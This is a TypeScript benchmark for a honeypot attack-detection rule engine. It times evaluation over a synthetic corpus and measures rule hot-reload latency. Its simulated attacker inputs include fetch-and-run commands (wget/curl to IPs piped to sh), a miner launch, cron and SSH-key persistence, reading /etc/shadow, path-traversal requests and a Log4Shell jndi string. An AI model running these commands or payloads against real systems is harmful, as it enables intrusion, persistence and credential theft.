/**
 * `npm run bench:ttp` (ttp.md §12): the engine in process — no database, no bus — through
 * every non-deprecated shipped rule, on one core. Scenarios:
 *
 * - evaluate: a seeded corpus (200,000 inputs, 50,000 with --quick) over a simulated day;
 *   a warm-up pass on one engine, a timed pass on a fresh one (inputs/s), and a latency
 *   pass on a third timing every `evaluate`.
 * - reload: rules changed in a threshold, list or confidence (patterns already proven),
 *   from the changed text to the new index live — validate with tests and catalogue
 *   checks, compile, build the index, swap — while evaluation continues between reloads.
 * - reload_e2e: the worker's own path, from a file write to the new index live, 50 times
 *   (10 with --quick). A FilesystemStore on a temp directory holding copies of the
 *   reloadable pack rules sits above a BuiltinStore of the pack under one RuleRegistry, as
 *   in `decnet ttp`; the registry's change rebuilds the index from the effective rules and
 *   swaps it into the engine. Each reload writes a changed copy (in place, or
 *   temp-then-rename as editors do) and waits for that rule's `applied` change and the
 *   swap: the store's 50 ms debounce, its read, hash and validation (tests included,
 *   patterns proven by the pack's verdict file) are all inside the measurement.
 * - reload_new_regex: as reload, with a pattern that has to be proven first.
 *
 * Progress goes to stderr; the last stdout line is the JSON of §12.
 */
import { mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { BuiltinStore, buildIndex, createRuleValidator, FilesystemStore, loadCatalog, loadRuleDir, memoryRegexSafety, projectInput, RuleRegistry, TtpEngine, validateRule, type Catalog, type CompiledRule, type Input, type RegexSafety, type RuleChange } from '../src/ttp/index.js';
import { builtinPackDir, packVerdictsFile } from '../src/ttp/paths.js';
import { recallCasesFor } from '../src/ttp/recall-cases.js';
import { percentile, progress, readFlags, report, round } from './harness.js';

const TARGETS = { inputs_per_s: 100_000, p99_ms: 1, reload_p99_ms: 100 };

function ms(ns: bigint): number {
  return Number(ns) / 1e6;
}

function evaluateAll(engine: TtpEngine, inputs: readonly Input[]): number {
  let tags = 0;
  for (const i of inputs) tags += engine.evaluate(i).length;
  return tags;
}

/** Mutations that keep patterns unchanged: a threshold, a list, a confidence. */
function mutate(text: string, k: number): string {
  const withVersion = text.replace(/^version: (\d+)$/m, (_, v: string) => `version: ${Number(v) + 1 + k}`);
  if (/gte: (\d+)\}/.test(withVersion) && k % 3 === 0) return withVersion.replace(/gte: (\d+)\}/, (_, v: string) => `gte: ${Number(v) + 1}}`);
  if (/programs: \[/.test(withVersion) && k % 3 === 1) return withVersion.replace(/programs: \[/, `programs: [bench-tool-${k}, `);
  return withVersion.replace(/confidence: (0\.\d+)/, (_, c: string) => `confidence: ${Math.max(0.3, Number(c) - 0.01).toFixed(2)}`);
}

/** mulberry32: a small seeded PRNG, so every run evaluates the same corpus. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Honeypot shell lines: the first list rarely fires, the second always does (≈ 10 % of commands). */
const QUIET = ['ls', 'ls -la', 'cd /tmp', 'pwd', 'echo hello', 'cat /etc/hostname', 'ps aux', 'free -m', 'df -h', 'exit', 'history', 'uptime', 'top -bn1', 'cd ~', 'clear', 'cat readme.txt', 'mkdir .x', 'chmod +x a', 'ls /var/log', 'tail -n 50 /var/log/syslog', 'echo $SHELL', 'which python3', 'ping -c 1 8.8.8.8', 'touch /tmp/.t', 'rm -f /tmp/.t', 'sleep 1', 'date', 'export PATH=$PATH:/tmp', 'grep -r password /var/www 2>/dev/null | head', 'systemctl status ssh', 'mount', 'enable', 'system', 'shell', 'sh', 'help', 'cat /proc/mounts', 'kill -9 1234', 'service --status-all', 'python3 -V', 'go version', 'git status', 'tar czf backup.tgz docs', 'vi notes.txt', 'ssh-keygen -t ed25519', 'apt-get update', 'yum install -y wget', 'echo -e "\\x41\\x42"', 'cat /var/log/auth.log | tail', 'ls -la ~/.ssh'];
const LOUD = ['uname -a', 'cat /etc/shadow', 'cd /tmp; wget http://45.95.1.2/bins.sh; chmod +x bins.sh; ./bins.sh', '(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.x/upd") | crontab -', 'cat /proc/cpuinfo | grep name | wc -l', 'whoami', 'nproc', 'curl -s http://1.2.3.4/x.sh | sh', './xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ -k --tls', 'echo "ssh-rsa AAAAB3Nza bot@vps" >> ~/.ssh/authorized_keys', 'history -c', 'find / -perm -4000 2>/dev/null', 'netstat -tulpn', 'ip -br a', 'sudo -l', 'nc -nvz 10.0.0.1 22', 'python3 -c "import pty;pty.spawn(\'/bin/bash\')"', 'getent passwd'];
const PATHS = ['/', '/index.html', '/favicon.ico', '/robots.txt', '/login', '/wp-login.php', '/static/app.js', '/api/v1/status', '/images/logo.png', '/about', '/search?q=router', '/cart?id=3'];
const HOT_PATHS = ['/.env', '/..%2f..%2f..%2fetc/passwd', '/index.php?page=php://filter/convert.base64-encode/resource=index', '/cgi-bin/.%2e/.%2e/bin/sh', '/.git/config', '/api/v1/secrets', '/?x=${jndi:ldap://1.2.3.4/a}'];
const UAS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36', 'curl/8.4.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'];
const HOT_UAS = ['Mozilla/5.0 zgrab/0.x', 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'masscan/1.3'];
const DAY_MS = 86_400_000;

/**
 * The §12 corpus: 55 % commands, 20 % HTTP requests, 18 % logins in bursts per address,
 * 5 % e-mail, reuse findings and sessions, 2 % kinds without producers, and the pack's test
 * inputs mixed in; time-ordered over one simulated day.
 */
function buildCorpus(n: number, seed: number, rules: readonly CompiledRule[]): Input[] {
  const rnd = prng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
  const ip = (): string => `198.51.${Math.floor(rnd() * 64)}.${1 + Math.floor(rnd() * 250)}`;
  const raws: { ts: number; raw: Record<string, unknown> & { kind: Input['kind'] } }[] = [];
  const day0 = Date.UTC(2026, 4, 1);
  // each category gets its share of the inputs: the next draw goes to the one most behind
  const shares = { command: 0.55, http: 0.2, auth: 0.18, mail: 0.05, orphan: 0.02 };
  const made = { command: 0, http: 0, auth: 0, mail: 0, orphan: 0 };
  const behind = (): keyof typeof shares => (Object.keys(shares) as (keyof typeof shares)[]).reduce((best, c) => (made[c] - shares[c] * raws.length < made[best] - shares[best] * raws.length ? c : best), 'command');
  let k = 0;
  while (raws.length < n) {
    const at = day0 + rnd() * DAY_MS;
    const who = { attacker_ip: ip(), decky: `decky-0${1 + Math.floor(rnd() * 6)}` };
    const cat = behind();
    const before = raws.length;
    k++;
    if (cat === 'command') raws.push({ ts: at, raw: { kind: 'command', ...who, command_text: rnd() < 0.1 ? pick(LOUD) : pick(QUIET), user: 'root' } });
    else if (cat === 'http') {
      const hot = rnd() < 0.15;
      raws.push({ ts: at, raw: { kind: 'http_request', ...who, method: rnd() < 0.9 ? 'GET' : 'POST', path: hot ? pick(HOT_PATHS) : `${pick(PATHS)}${rnd() < 0.3 ? `?k=${k}` : ''}`, headers: { 'User-Agent': hot && rnd() < 0.5 ? pick(HOT_UAS) : pick(UAS), Host: 'decky.example' } } });
    } else if (cat === 'auth') {
      // a burst of logins from one address, a few seconds apart, sometimes ending in a success
      const len = 1 + Math.floor(rnd() * 12);
      const user = pick(['root', 'admin', 'pi', 'ubnt', 'test', 'oracle']);
      const succeeds = rnd() < 0.2;
      for (let j = 0; j < len && raws.length < n; j++) {
        const last = j === len - 1 && succeeds;
        raws.push({ ts: at + j * 1500, raw: { kind: 'auth_attempt', ...who, username: user, password: last ? pick(['toor', 'raspberry', 'admin']) : `pw${k}-${j}`, outcome: last ? 'success' : rnd() < 0.3 ? undefined : 'failure' } });
      }
    } else if (cat === 'mail') {
      const e = rnd();
      if (e < 0.6) raws.push({ ts: at, raw: { kind: 'email', ...who, source_id: k, from_domain: pick(['paypal.com', 'shop.example', 'shop.example']), mail_from_domain: pick(['shop.example', 'shop.example', 'bulk.example']), rcpt_count: 1 + Math.floor(rnd() * 12), body_simhash: `h${Math.floor(rnd() * 50)}`, x_mailer: pick(['Microsoft Outlook 16.0', 'Leaf PHPMailer 2.8', 'PHPMailer 6.8.0', 'Thunderbird 115']), attachment_extensions: [pick(['pdf', 'iso', 'png', 'docx'])], spf_pass: rnd() < 0.9 } });
      else if (e < 0.8) raws.push({ ts: at, raw: { kind: 'credential_reuse', ...who, finding_id: `f${k}`, target_count: 1 + Math.floor(rnd() * 4), principal: 'root' } });
      else raws.push({ ts: at, raw: { kind: 'session', ...who, session_id: `s${k}`, duration_s: rnd() * 600, command_count: Math.floor(rnd() * 40), ended_at: new Date(at).toISOString() } });
    } else raws.push({ ts: at, raw: rnd() < 0.5 ? { kind: 'intel', ...who, abuseipdb_score: Math.floor(rnd() * 100), abuseipdb_categories: [pick([14, 18, 22, 4])], greynoise_tags: [] } : { kind: 'fingerprint', ...who, probe: pick(['jarm', 'ja3', 'ipv6_leak']), value: `v${k}`, addr: 'fe80::1' } });
    made[cat] += raws.length - before;
  }
  // the pack's test inputs, re-stamped into the day
  for (const r of rules) for (const t of r.def.tests) for (const i of t.inputs) {
    const { id: _id, ts: _ts, ts_text: _tt, source: _s, ...rest } = i;
    raws.push({ ts: day0 + rnd() * DAY_MS, raw: rest as Record<string, unknown> & { kind: Input['kind'] } });
  }
  raws.sort((a, b) => a.ts - b.ts);
  return raws.map((x) => projectInput({ ...x.raw, ts: x.ts }));
}

async function main(): Promise<void> {
  const { quick } = readFlags();
  const started = Date.now();
  progress('bench:ttp: loading the catalogue and the pack');
  const catalog = loadCatalog();
  const regex = memoryRegexSafety([packVerdictsFile()]);
  const loaded = await loadRuleDir({ catalog, regex });
  const rules = loaded.rules;
  const active = rules.filter((r) => r.def.status !== 'deprecated');
  const index = buildIndex(rules);
  const n = quick ? 50_000 : 200_000;
  progress(`bench:ttp: building a corpus of ${n} inputs (seed 42)`);
  const corpus = buildCorpus(n, 42, rules);

  progress('bench:ttp: warm-up pass');
  evaluateAll(new TtpEngine(index), corpus);
  progress('bench:ttp: timed pass');
  const timed = new TtpEngine(index);
  const cpu0 = process.cpuUsage();
  const t0 = process.hrtime.bigint();
  const tags = evaluateAll(timed, corpus);
  const elapsed = ms(process.hrtime.bigint() - t0) / 1000;
  const cpu = process.cpuUsage(cpu0);
  const cpuSeconds = (cpu.user + cpu.system) / 1e6;
  progress(`bench:ttp: ${Math.round(corpus.length / elapsed)} inputs/s, ${tags} tags`);

  progress('bench:ttp: latency pass');
  const lat = new TtpEngine(index);
  const samples = new Array<number>(corpus.length);
  for (let k = 0; k < corpus.length; k++) {
    const a = process.hrtime.bigint();
    lat.evaluate(corpus[k] as Input);
    samples[k] = ms(process.hrtime.bigint() - a);
  }
  const stats = timed.stats();
  const evaluate = {
    scenario: 'evaluate',
    rules: active.length,
    inputs: corpus.length,
    inputs_per_s: Math.round(corpus.length / elapsed),
    // the same pass per second of this process's CPU time: what one core does when the machine is shared
    inputs_per_cpu_s: Math.round(corpus.length / cpuSeconds),
    tags_per_s: Math.round(tags / elapsed),
    tags,
    p50_ms: round(percentile(samples, 50), 4),
    p99_ms: round(percentile(samples, 99), 4),
    p999_ms: round(percentile(samples, 99.9), 4),
    max_ms: round(samples.reduce((m, x) => (x > m ? x : m), 0), 4),
    state_groups: stats.state_groups,
    duplicates: stats.duplicates,
    rss_mb: Math.round(process.memoryUsage().rss / 1048576),
  };

  const texts = new Map(loaded.files.map((f) => [f.result.ruleId ?? '', readFileSync(f.file, 'utf8')]));
  const fileNames = new Map(loaded.files.map((f) => [f.result.ruleId ?? '', basename(f.file)]));
  // a mutation whose tests no longer pass is rejected, not reloaded: keep the (rule, mutation) pairs that validate
  const candidates: { id: string; k: number }[] = [];
  for (const id of active.map((r) => r.def.id).filter((x) => texts.has(x))) {
    for (const k of [0, 1, 2]) {
      const r = await validateRule(mutate(texts.get(id) as string, k), { catalog, regex, source: 'builtin', recallCases: recallCasesFor });
      if (r.rule !== null) candidates.push({ id, k });
    }
  }
  const reloadable = [...new Set(candidates.map((c) => c.id))];
  progress(`bench:ttp: ${candidates.length} valid mutations over ${reloadable.length} rules`);
  const reloads = quick ? 50 : 200;
  progress(`bench:ttp: ${reloads} reloads while evaluating`);
  const live = new TtpEngine(index);
  let current = new Map(rules.map((r) => [r.def.id, r]));
  const reloadMs: number[] = [];
  const chunk = Math.floor(corpus.length / reloads);
  const reloadOne = async (id: string, text: string): Promise<boolean> => {
    const r = await validateRule(text, { catalog, regex, source: 'builtin', recallCases: recallCasesFor });
    if (r.rule === null) return false;
    current = new Map(current).set(id, r.rule);
    live.swap(buildIndex([...current.values()]));
    return true;
  };
  const rStart = process.hrtime.bigint();
  for (let k = 0; k < reloads; k++) {
    for (let j = k * chunk; j < (k + 1) * chunk; j++) live.evaluate(corpus[j] as Input);
    const c = candidates[(k * 7919) % candidates.length] as { id: string; k: number };
    const id = c.id;
    const a = process.hrtime.bigint();
    const ok = await reloadOne(id, mutate(texts.get(id) as string, c.k + 3 * k));
    reloadMs.push(ms(process.hrtime.bigint() - a));
    if (!ok) progress(`bench:ttp: reload of ${id} did not validate`);
  }
  const rTotal = ms(process.hrtime.bigint() - rStart) / 1000;
  const reload = { scenario: 'reload', count: reloads, reloads_per_s: round(reloads / reloadMs.reduce((s, x) => s + x, 0) * 1000, 1), p50_ms: round(percentile(reloadMs, 50), 3), p99_ms: round(percentile(reloadMs, 99), 3), max_ms: round(Math.max(...reloadMs), 3), wall_s: round(rTotal, 2) };

  const e2eCount = quick ? 10 : 50;
  progress(`bench:ttp: ${e2eCount} reloads through a filesystem store on a watched directory`);
  const e2e = await reloadThroughStores(e2eCount, { catalog, regex, texts, fileNames, candidates });

  progress('bench:ttp: 5 reloads with a new pattern to prove');
  const fresh = memoryRegexSafety([packVerdictsFile()]);
  const newRegexMs: number[] = [];
  for (let k = 0; k < 5; k++) {
    const id = 'R0014';
    const text = (texts.get(id) as string).replace("target:\n    command_text|re: '", `target:\n    command_text|re: '(?:bench${Date.now()}${k})?`);
    const a = process.hrtime.bigint();
    const r = await validateRule(text, { catalog, regex: fresh, source: 'builtin', recallCases: recallCasesFor });
    if (r.rule) live.swap(buildIndex([...new Map(current).set(id, r.rule).values()]));
    newRegexMs.push(ms(process.hrtime.bigint() - a));
  }
  const newRegex = { scenario: 'reload_new_regex', count: 5, p50_ms: round(percentile(newRegexMs, 50), 1), p99_ms: round(percentile(newRegexMs, 99), 1), proofs: fresh.proofs };

  const pass = evaluate.inputs_per_s >= TARGETS.inputs_per_s && evaluate.p99_ms < TARGETS.p99_ms && reload.p99_ms < TARGETS.reload_p99_ms;
  progress(`bench:ttp: done in ${round((Date.now() - started) / 1000, 1)} s`);
  report('ttp', [evaluate, reload, e2e, newRegex], { targets: TARGETS, pass, quick });
}

interface E2eInputs {
  readonly catalog: Catalog;
  /** The pack's verdicts: every pattern of a mutation is already proven. */
  readonly regex: RegexSafety;
  readonly texts: ReadonlyMap<string, string>;
  readonly fileNames: ReadonlyMap<string, string>;
  readonly candidates: readonly { id: string; k: number }[];
}

/**
 * The real hot-reload path (ttp.md §5.2–§5.3): builtin pack < filesystem store on a temp
 * directory, one registry, an engine whose index is rebuilt and swapped on every change
 * that is not a rejection — what the worker's rule runtime does, without the catalogue row
 * and journal write that follow the swap. Each sample runs from just before the write to
 * just after `engine.swap` for the rule written.
 */
async function reloadThroughStores(count: number, inp: E2eInputs): Promise<Record<string, unknown>> {
  const DEBOUNCE_MS = 50;
  const RESCAN_SECS = 10;
  const WAIT_MS = 15_000;
  const dir = mkdtempSync(join(tmpdir(), 'bench-ttp-'));
  const stop = new AbortController();
  const ids = [...new Set(inp.candidates.map((c) => c.id))];
  for (const id of ids) writeFileSync(join(dir, inp.fileNames.get(id) as string), inp.texts.get(id) as string);
  const validator = createRuleValidator({ catalog: inp.catalog, regex: inp.regex });
  const files = new FilesystemStore(dir, { validator, debounceMs: DEBOUNCE_MS, rescanSecs: RESCAN_SECS });
  const registry = new RuleRegistry([new BuiltinStore(builtinPackDir(), { validator }), files]);
  const engine = new TtpEngine(buildIndex([]));
  let waiting: { id: string; done: (c: RuleChange) => void } | null = null;
  registry.onChange((change) => {
    if (change.outcome !== 'rejected') engine.swap(buildIndex(registry.effectiveRules()));
    if (waiting?.id === change.rule_id) waiting.done(change);
  });
  const took: number[] = [];
  let rejected = 0;
  try {
    await registry.start(stop.signal);
    engine.swap(buildIndex(registry.effectiveRules()));
    const fromFiles = ids.filter((id) => registry.effectiveOf(id)?.source === 'filesystem').length;
    if (fromFiles !== ids.length) throw new Error(`only ${fromFiles} of ${ids.length} copied rules run from the filesystem store`);
    for (let k = 0; k < count; k++) {
      const c = inp.candidates[(k * 104729) % inp.candidates.length] as { id: string; k: number };
      const name = inp.fileNames.get(c.id) as string;
      const text = mutate(inp.texts.get(c.id) as string, c.k + 3 * (k + 1000));
      // the store's watch does not hold the process open (the worker's loop does): this timer does, and bounds the wait
      let guard: NodeJS.Timeout | undefined;
      const change = new Promise<RuleChange>((resolve, reject) => {
        waiting = { id: c.id, done: resolve };
        guard = setTimeout(() => reject(new Error(`no reload of ${c.id} within ${WAIT_MS} ms of its write`)), WAIT_MS);
      }).finally(() => clearTimeout(guard));
      const a = process.hrtime.bigint();
      if (k % 2 === 0) writeFileSync(join(dir, name), text);
      else {
        // an editor's save: a dotfile (ignored by the store) renamed over the rule file
        const tmp = join(dir, `.${name}.tmp`);
        writeFileSync(tmp, text);
        renameSync(tmp, join(dir, name));
      }
      const got = await change;
      took.push(ms(process.hrtime.bigint() - a));
      if (got.outcome !== 'applied' || got.effective?.source !== 'filesystem') {
        rejected++;
        progress(`bench:ttp: the file reload of ${c.id} gave ${got.outcome}`);
      }
    }
  } finally {
    waiting = null;
    stop.abort();
    rmSync(dir, { recursive: true, force: true });
  }
  return { scenario: 'reload_e2e', count, p50_ms: round(percentile(took, 50), 1), p99_ms: round(percentile(took, 99), 1), max_ms: round(Math.max(...took), 1), debounce_ms: DEBOUNCE_MS, rejected, path: 'FilesystemStore > RuleRegistry > buildIndex > engine.swap', writes: 'in place and temp-then-rename, alternately' };
}

main().then(
  () => process.exit(0),
  (err: unknown) => {
    process.stderr.write(`bench:ttp: ${err instanceof Error ? (err.stack ?? err.message) : String(err)}\n`);
    process.exit(1);
  },
);
